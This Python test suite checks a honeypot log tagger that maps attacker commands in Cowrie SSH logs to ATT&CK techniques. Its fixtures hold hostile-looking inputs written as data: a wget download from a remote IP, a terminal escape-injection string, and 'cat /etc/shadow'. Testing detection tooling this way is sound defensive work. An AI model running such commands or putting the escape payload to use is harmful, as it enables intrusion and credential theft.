from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import time
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from bench.cowrie_log import lines
from decnet.attack import catalog

if TYPE_CHECKING:
    from tests.cli.conftest import CommandLine

RECORDING = str(Path(__file__).parents[2] / "demo" / "cowrie.json")


def cowrie_line(command: str, *, second: int = 0, session: str = "0123456789ab") -> str:
    return json.dumps(
        {
            "eventid": "cowrie.command.input",
            "input": command,
            "message": f"CMD: {command}",
            "timestamp": f"2026-11-18T12:00:{second:02}.000000Z",
            "session": session,
            "src_ip": "198.51.100.7",
            "protocol": "ssh",
            "sensor": "svr04",
        }
    )


def as_json(result: subprocess.CompletedProcess[str]) -> dict[str, Any]:
    found: dict[str, Any] = json.loads(result.stdout)
    return found


def rows(decnet: CommandLine, sql: str) -> list[tuple[Any, ...]]:
    with sqlite3.connect(decnet.folder / "data" / "decnet.sqlite") as database:
        return database.execute(sql).fetchall()


def test_the_recording_shows_what_its_visitors_did(decnet: CommandLine) -> None:
    result = decnet.run("ttp", "tag", RECORDING, "--json")
    seen = {row["sub_technique_id"] or row["technique_id"] for row in as_json(result)["techniques"]}
    assert result.returncode == 0
    assert {"T1059.004", "T1105", "T1082", "T1033", "T1003.008", "T1053.003", "T1070.003"} <= seen


@pytest.mark.timeout(180)
def test_a_first_run_that_ends_before_its_rules_are_compiled_leaves_them_for_the_next(decnet: CommandLine) -> None:
    cache = decnet.folder / "cache"
    environment = {**decnet.environment, "XDG_CACHE_HOME": str(cache)}
    command = [sys.executable, "-m", "decnet", "ttp", "tag", RECORDING]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, check=False)
    assert (done.returncode, done.stderr) == (0, "")
    assert any(path.is_file() for path in cache.rglob("*"))


def test_a_second_run_adds_nothing_and_says_so(decnet: CommandLine) -> None:
    first = as_json(decnet.run("ttp", "tag", RECORDING, "--json"))
    assert "0 new tags" in decnet.run("ttp", "tag", RECORDING).stdout
    again = as_json(decnet.run("ttp", "tag", RECORDING, "--again", "--json"))
    assert again["files"][0]["new_tags"] == again["files"][0]["new_events"] == 0
    assert again["totals"] == first["totals"]
    assert again["techniques"] == first["techniques"]


def test_the_same_log_under_another_name_adds_nothing(decnet: CommandLine) -> None:
    decnet.run("ttp", "tag", RECORDING)
    copy = decnet.folder / "cowrie.json.2026-11-22"
    copy.write_bytes(Path(RECORDING).read_bytes())
    assert as_json(decnet.run("ttp", "tag", str(copy), "--json"))["files"][0]["new_events"] == 0


def test_a_grown_log_is_read_from_where_it_was_left(decnet: CommandLine) -> None:
    log = decnet.folder / "cowrie.json"
    log.write_text(cowrie_line("uname -a") + "\n")
    decnet.run("ttp", "tag", str(log))
    with log.open("a") as file:
        file.write(cowrie_line("whoami", second=1) + "\n")
    (report,) = as_json(decnet.run("ttp", "tag", str(log), "--json"))["files"]
    assert (report["resumed_after_line"], report["lines"], report["new_tags"]) == (1, 1, 1)


def test_passwords_are_nowhere_in_the_data_folder(decnet: CommandLine) -> None:
    secret = "correct-horse-battery"
    login = {"eventid": "cowrie.login.failed", "username": "root", "password": secret, "message": f"[root/{secret}]"}
    log = decnet.folder / "cowrie.json"
    log.write_text(json.dumps(json.loads(cowrie_line("x")) | login) + "\n")
    assert decnet.run("ttp", "tag", str(log)).returncode == 0
    assert rows(decnet, "SELECT count(*) FROM event") == [(1,)]
    for path in (decnet.folder / "data").iterdir():
        assert secret.encode() not in path.read_bytes(), path.name


def test_bad_lines_are_reported_with_their_place_and_the_rest_is_read(decnet: CommandLine) -> None:
    log = decnet.folder / "cowrie.json"
    good = [cowrie_line("wget http://203.0.113.7/a", second=second) for second in range(3)]
    log.write_bytes(
        b"\n".join(
            [
                good[0].encode(),
                good[1].encode()[:80],
                b"\x7fELF\x00\x01\xff\xfe" * 40,
                b"[1, 2]",
                good[1].encode(),
                good[1].encode(),
                good[2].replace("wget", "wget \xe9").encode("latin-1"),
                b"",
            ]
        )
    )
    result = decnet.run("ttp", "tag", str(log), "--json")
    (report,) = as_json(result)["files"]
    assert result.returncode == 1
    assert report["new_events"] == 3
    assert sum(refused["count"] for refused in report["refused"]) == 3
    assert {refused["first"].split(":")[1] for refused in report["refused"]} <= {"2", "3", "4"}


PEAK = """
import resource, subprocess, sys
done = subprocess.run(sys.argv[1:])
sys.stderr.write(str(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss))
sys.exit(done.returncode)
"""


def with_peak(decnet: CommandLine, log: Path) -> tuple[subprocess.CompletedProcess[str], int]:
    """A run over ``log`` and the most memory that it held, in KiB."""
    command = [sys.executable, "-c", PEAK, sys.executable, "-m", "decnet", "ttp", "tag", str(log), "--json"]
    result = subprocess.run(command, capture_output=True, text=True, check=False, env=decnet.environment)
    return result, int(result.stderr)


@pytest.mark.timeout(60)
def test_a_line_of_50_mb_is_skipped_in_bounded_memory(decnet: CommandLine) -> None:
    short, log = decnet.folder / "short.json", decnet.folder / "cowrie.json"
    short.write_text(cowrie_line("uname -a", session="short") + "\n")
    with log.open("w") as file:
        file.write(cowrie_line("uname -a") + "\n")
        for _ in range(50):
            file.write("x" * 1_000_000)
        file.write("\n" + cowrie_line("whoami", second=1) + "\n")
    with_peak(decnet, short)  # the first run of a machine compiles patterns, and needs more for that
    result, peak = with_peak(decnet, log)
    assert peak < with_peak(decnet, short)[1] + 30_000
    (report,) = as_json(result)["files"]
    assert result.returncode == 1
    assert report["new_tags"] == 2
    assert report["refused"] == [
        {
            "reason": "longer than one line may be",
            "count": 1,
            "first": f"{log}:2: longer than one line may be: 50000000 bytes, at most 1048576",
        }
    ]


@pytest.mark.parametrize(
    ("name", "message"),
    [
        ("missing.json", "no such file"),
        (".", "is a directory"),
        ("/proc/self/mem", "cannot be read"),
        ("noise.bin", "binary"),
    ],
)
def test_a_file_that_cannot_be_read_is_explained_and_the_others_are_read(
    decnet: CommandLine, name: str, message: str
) -> None:
    (decnet.folder / "noise.bin").write_bytes(bytes(range(256)) * 64)
    log = decnet.folder / "cowrie.json"
    log.write_text(cowrie_line("uname -a") + "\n")
    result = decnet.run("ttp", "tag", name, str(log))
    assert result.returncode == 1
    assert message in result.stdout
    assert "1 new tags" in result.stdout


def test_attacker_text_reaches_the_terminal_escaped(decnet: CommandLine) -> None:
    hostile = "wget http://203.0.113.7/\x1b]0;owned\x07\x1b[2J\u202egnp.exe\x9b31m"
    log = decnet.folder / "cow\x1b[31mrie.json"
    log.write_text(cowrie_line(hostile) + "\n" + '{"eventid": "cowrie.\x1b[2J"}\n')
    for arguments in (
        ["ttp", "tag", str(log)],
        ["ttp", "tag", str(log), "--again", "--json"],
        ["ttp", "explain", hostile],
    ):
        result = decnet.run(*arguments)
        for text in (result.stdout, result.stderr):
            assert not set(text) & {"\x1b", "\x07", "\x9b", "\u202e"}, arguments


def test_a_full_disk_is_told_and_nothing_is_half_written(decnet: CommandLine) -> None:
    log = decnet.folder / "cowrie.json"
    log.write_text("\n".join(lines(20_000)) + "\n")
    limited = ["bash", "-c", 'ulimit -f 2000; exec "$@"', "_", sys.executable, "-m", "decnet", "ttp", "tag", str(log)]
    result = subprocess.run(limited, capture_output=True, text=True, check=False, env=decnet.environment)
    assert result.returncode == 1
    assert "nothing of this batch was stored" in result.stderr
    assert rows(decnet, "PRAGMA integrity_check") == [("ok",)]
    assert rows(decnet, "SELECT count(*) FROM tag") == rows(
        decnet, "SELECT coalesce(sum(count), 0) FROM rollup_fleet_day"
    )
    assert decnet.run("ttp", "tag", str(log)).returncode == 0
    assert rows(decnet, "SELECT count(*) FROM event") == [(20_000,)]


def test_a_killed_run_is_finished_by_the_next_one(decnet: CommandLine) -> None:
    log = decnet.folder / "cowrie.json"
    log.write_text("\n".join(lines(20_000)) + "\n")
    run = subprocess.Popen(
        [sys.executable, "-m", "decnet", "ttp", "tag", str(log)],
        env=decnet.environment,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    database = decnet.folder / "data" / "decnet.sqlite-wal"
    while not (database.exists() and database.stat().st_size > 1_000_000):
        time.sleep(0.01)  # the first transaction is written
    while not rows(decnet, "SELECT count(*) FROM event")[0][0]:
        time.sleep(0.01)
    run.kill()
    run.wait()
    killed = rows(decnet, "SELECT count(*) FROM event")[0][0]
    decnet.run("ttp", "tag", str(log))
    assert 0 < killed < 20_000
    assert rows(decnet, "SELECT count(*) FROM event") == [(20_000,)]
    assert rows(decnet, "SELECT count(*) FROM tag") == rows(decnet, "SELECT sum(count) FROM rollup_fleet_day")


def test_standard_input_is_a_log_too(decnet: CommandLine) -> None:
    result = decnet.run("ttp", "tag", "-", "--json", stdin=cowrie_line("uname -a") + "\n")
    assert as_json(result)["files"][0]["new_tags"] == 1


def test_the_operators_sensor_name_wins(decnet: CommandLine) -> None:
    decnet.run("ttp", "tag", "-", "--sensor", "dmz-1", stdin=cowrie_line("uname -a") + "\n")
    assert rows(decnet, "SELECT name FROM sensor") == [("dmz-1",)]


def test_the_navigator_layer_holds_every_technique(decnet: CommandLine) -> None:
    layer_file = decnet.folder / "layer.json"
    summary = as_json(decnet.run("ttp", "tag", RECORDING, "--json", "--navigator", str(layer_file)))
    layer = json.loads(layer_file.read_text())
    known = catalog.load()
    assert layer["versions"]["layer"] == "4.5"
    assert {entry["techniqueID"] for entry in layer["techniques"]} >= {
        row["sub_technique_id"] or row["technique_id"] for row in summary["techniques"]
    }
    assert all(known.technique(entry["techniqueID"]).is_active for entry in layer["techniques"])


def test_everything_is_found_from_any_working_directory(decnet: CommandLine) -> None:
    result = decnet.run("ttp", "explain", "cat /etc/shadow", cwd="/")
    assert "R0014" in result.stdout


def test_a_misspelt_setting_is_reported(decnet: CommandLine) -> None:
    environment = decnet.environment | {"DECNET_DATADIR": "/x"}
    result = subprocess.run(
        [sys.executable, "-m", "decnet", "ttp", "tag", "-"],
        input="",
        env=environment,
        capture_output=True,
        text=True,
        check=False,
    )
    assert "DECNET_DATADIR is no setting; did you mean DECNET_DATA_DIR?" in result.stderr


def test_a_data_folder_that_cannot_be_made_is_named(decnet: CommandLine) -> None:
    (decnet.folder / "data").write_text("a file")
    result = decnet.run("ttp", "tag", RECORDING)
    assert result.returncode == 1
    assert "DECNET_DATA_DIR" in result.stderr
